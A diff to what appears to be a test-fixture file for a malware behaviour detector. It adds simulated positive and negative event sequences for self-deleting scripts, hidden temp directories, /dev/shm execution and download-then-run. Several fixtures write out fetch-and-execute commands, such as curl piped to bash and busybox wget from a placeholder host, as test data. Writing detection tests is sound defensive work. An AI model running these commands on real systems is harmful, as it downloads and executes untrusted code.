@@ -169,6 +169,14 @@ def pos_stealth_self_deletion(b: Builder) -> None:
     b.delete("/tmp/sample", key=rm)
     script = b.run(["sh", "/tmp/dropper.sh"], image="/bin/sh")  # a script run by its shell
     b.delete("/tmp/dropper.sh", key=b.run(["rm", "/tmp/dropper.sh"], parent=script))
+    # An option before the script ("-e" is errexit for a shell, not code).
+    strict = b.run(["sh", "-e", "/tmp/helper-a.sh"], image="/usr/bin/sh")
+    b.delete("/tmp/helper-a.sh", key=b.run(["rm", "-f", "/tmp/helper-a.sh"], parent=strict))
+    # Python with a valued option, unlinking __file__ itself; a relative script and its cwd.
+    py = b.run(["python3", "-W", "ignore", "/tmp/helper-b.py"], image="/usr/bin/python3")
+    b.delete("/tmp/helper-b.py", key=py)
+    rel = b.run(["sh", "./helper-c.sh"], image="/usr/bin/sh", cwd="/var/tmp")
+    b.delete("/var/tmp/helper-c.sh", key=b.run(["rm", "./helper-c.sh"], parent=rel))
 
 
 def neg_stealth_self_deletion(b: Builder) -> None:
@@ -176,6 +184,18 @@ def neg_stealth_self_deletion(b: Builder) -> None:
     b.delete("/tmp/scratch")
     b.run(["sh", "-c", "rm /tmp/other.sh"], image="/bin/sh")
     b.delete("/tmp/other.sh")
+    # A script deleting a different file than itself.
+    script = b.run(["sh", "/tmp/cleanup.sh"], image="/usr/bin/sh")
+    b.delete("/tmp/cleanup.log", key=b.run(["rm", "/tmp/cleanup.log"], parent=script))
+    # The named files are arguments, not the program: stdin (-s), rc file, a module's input.
+    stdin = b.run(["sh", "-s", "/tmp/arg.sh"], image="/usr/bin/sh")
+    b.delete("/tmp/arg.sh", key=b.run(["rm", "/tmp/arg.sh"], parent=stdin))
+    rc = b.run(["bash", "--rcfile", "/tmp/rc.sh", "-i"], image="/usr/bin/bash")
+    b.delete("/tmp/rc.sh", key=b.run(["rm", "/tmp/rc.sh"], parent=rc))
+    module = b.run(["python3", "-m", "tool", "/tmp/input.py"], image="/usr/bin/python3")
+    b.delete("/tmp/input.py", key=module)
+    php = b.run(["php", "-c", "/tmp/php.ini", "/srv/app.php"], image="/usr/bin/php")
+    b.delete("/tmp/php.ini", key=php)
 
 
 def pos_stealth_clear_command_history(b: Builder) -> None:
@@ -227,6 +247,7 @@ def pos_stealth_hidden_tmp_directory(b: Builder) -> None:
     b.mkdir("/tmp/.ICE-unix-x")
     b.write("/var/tmp/.cache/kworker")
     b.run(["/var/tmp/.cache/kworker"])
+    b.run(["sh", "/tmp/.x/run.sh"], image="/usr/bin/sh")  # a hidden script, interpreted
 
 
 def neg_stealth_hidden_tmp_directory(b: Builder) -> None:
@@ -234,16 +255,19 @@ def neg_stealth_hidden_tmp_directory(b: Builder) -> None:
     b.mkdir("/tmp/.org.chromium.Chromium.a1b2c3")
     b.write("/tmp/build/.config")
     b.write("/root/.cache/pip/x")
+    b.run(["sh", "-c", ". /tmp/.env", "/tmp/.x/run.sh"], image="/usr/bin/sh")
 
 
 def pos_stealth_dev_shm_execution(b: Builder) -> None:
     b.write("/dev/shm/x")
     b.run(["/dev/shm/x"])
+    b.run(["python3", "-u", "/dev/shm/agent.py"], image="/usr/bin/python3")
 
 
 def neg_stealth_dev_shm_execution(b: Builder) -> None:
     b.write("/dev/shm/sem.lock")
     b.run(["/tmp/tool"])
+    b.run(["python3", "/opt/tool.py", "/dev/shm/data.py"], image="/usr/bin/python3")
 
 
 def pos_stealth_ld_preload_injection(b: Builder) -> None:
@@ -635,6 +659,27 @@ def pos_execution_download_chmod_exec(b: Builder) -> None:
     b.write("/tmp/.x86", key=wget)
     b.chmod("/tmp/.x86", "0777")
     b.run(["/tmp/.x86"])
+    # Written by a second process: the pipeline stage the fetcher feeds ...
+    fetch = b.run(
+        ["busybox", "wget", "-q", "-O", "-", "http://203.0.113.5/p"], image="/bin/busybox"
+    )
+    cat = b.run(["cat"], image="/usr/bin/cat")
+    b.connect("203.0.113.5", 80, key=fetch)
+    b.write("/tmp/stage-c", key=cat)
+    b.end(cat)
+    b.end(fetch)
+    b.chmod("/tmp/stage-c", "0755")
+    b.run(["/tmp/stage-c"])
+    # ... and a copy of a downloaded file.
+    dl = b.run(["busybox", "wget", "-O", "/tmp/dl-e", "http://203.0.113.5/e"], image="/bin/busybox")
+    b.connect("203.0.113.5", 80, key=dl)
+    b.write("/tmp/dl-e", key=dl)
+    b.end(dl)
+    cp = b.run(["cp", "/tmp/dl-e", "/tmp/stage-e"], image="/usr/bin/cp")
+    b.read("/tmp/dl-e", key=cp)
+    b.write("/tmp/stage-e", key=cp)
+    b.chmod("/tmp/stage-e", "0755")
+    b.run(["/tmp/stage-e"])
 
 
 def neg_execution_download_chmod_exec(b: Builder) -> None:
@@ -644,16 +689,33 @@ def neg_execution_download_chmod_exec(b: Builder) -> None:
     wget = b.run(["wget", "http://203.0.113.5/data.txt"])
     b.connect("203.0.113.5", 80, key=wget)
     b.write("/tmp/data.txt", key=wget)
+    # A download piped into a file that is never made executable nor run.
+    curl = b.run(["curl", "-s", "http://203.0.113.5/list"], image="/usr/bin/curl")
+    cat = b.run(["cat"], image="/usr/bin/cat")
+    b.connect("203.0.113.5", 80, key=curl)
+    b.write("/tmp/list.txt", key=cat)
+    b.end(cat)
+    b.end(curl)
+    # A copy of a local program, made executable and run.
+    cp = b.run(["cp", "/bin/true", "/tmp/mytrue"], image="/usr/bin/cp")
+    b.read("/bin/true", key=cp)
+    b.write("/tmp/mytrue", key=cp)
+    b.chmod("/tmp/mytrue", "0755")
+    b.run(["/tmp/mytrue"])
 
 
 def pos_execution_written_file_run(b: Builder) -> None:
     b.write("/tmp/stage2")
     b.run(["/tmp/stage2"])
+    b.write("/tmp/gen.py")
+    b.run(["python3", "/tmp/gen.py"], image="/usr/bin/python3")
 
 
 def neg_execution_written_file_run(b: Builder) -> None:
     b.run(["/usr/bin/true"])
     b.write("/tmp/later")
+    b.write("/tmp/input.txt")
+    b.run(["python3", "/opt/tool.py", "/tmp/input.txt"], image="/usr/bin/python3")
 
 
 def pos_execution_inline_interpreter(b: Builder) -> None:
@@ -668,12 +730,54 @@ def neg_execution_inline_interpreter(b: Builder) -> None:
 def pos_execution_pipe_to_shell(b: Builder) -> None:
     b.shell("curl -fsSL http://203.0.113.5/i.sh | bash")
     b.shell("echo ZWNobyBoaQ== | base64 -d | sh")
+    # The same pipeline written in a script file: only the process tree shows it.
+    wget = b.run(["busybox", "wget", "-qO-", "http://203.0.113.5/i.sh"], image="/bin/busybox")
+    sh = b.run(["sh"], image="/usr/bin/sh")
+    b.connect("203.0.113.5", 80, key=wget)
+    b.end(wget)
+    b.end(sh)
 
 
 def neg_execution_pipe_to_shell(b: Builder) -> None:
     b.shell("curl -fsSL -o /tmp/i.sh http://203.0.113.5/i.sh")
     b.shell("cat /etc/os-release | grep ID")
     b.shell("echo hi | sh")
+    # A download piped into a module, not a program; a fetcher saving to a file.
+    curl = b.run(["curl", "-s", "http://203.0.113.5/a.json"], image="/usr/bin/curl")
+    b.run(["python3", "-m", "json.tool"], image="/usr/bin/python3")
+    b.connect("203.0.113.5", 80, key=curl)
+    b.end(curl)
+    wget = b.run(["wget", "-q", "-O", "/tmp/i.sh", "http://203.0.113.5/i.sh"])
+    b.run(["sh"], image="/usr/bin/sh")
+    b.connect("203.0.113.5", 80, key=wget)
+    # A fetcher that had finished before the interpreter started.
+    old = b.run(["curl", "-s", "http://203.0.113.5/v"], image="/usr/bin/curl")
+    b.connect("203.0.113.5", 80, key=old)
+    b.end(old)
+    b.run(["bash"], image="/usr/bin/bash")
+
+
+def pos_execution_download_script_run(b: Builder) -> None:
+    wget = b.run(["wget", "-q", "-O", "/tmp/i.sh", "http://203.0.113.5/i.sh"])
+    b.connect("203.0.113.5", 80, key=wget)
+    b.http("203.0.113.5", "/i.sh", key=wget)
+    b.write("/tmp/i.sh", key=wget)
+    b.end(wget)
+    b.run(["sh", "-e", "/tmp/i.sh"], image="/usr/bin/sh")
+
+
+def neg_execution_download_script_run(b: Builder) -> None:
+    wget = b.run(["wget", "-q", "-O", "/tmp/data.py", "http://203.0.113.5/data.py"])
+    b.connect("203.0.113.5", 80, key=wget)
+    b.write("/tmp/data.py", key=wget)
+    b.end(wget)
+    # The download is an argument of the script, a module's input, or code's: never run.
+    b.run(["python3", "/opt/tool.py", "/tmp/data.py"], image="/usr/bin/python3")
+    b.run(["python3", "-m", "py_compile", "/tmp/data.py"], image="/usr/bin/python3")
+    b.run(["sh", "-c", "wc -l /tmp/data.py", "/tmp/data.py"], image="/usr/bin/sh")
+    # A script the sample wrote itself.
+    b.write("/tmp/local.sh")
+    b.run(["sh", "/tmp/local.sh"], image="/usr/bin/sh")
 
 
 # --- static ----------------------------------------------------------------------------
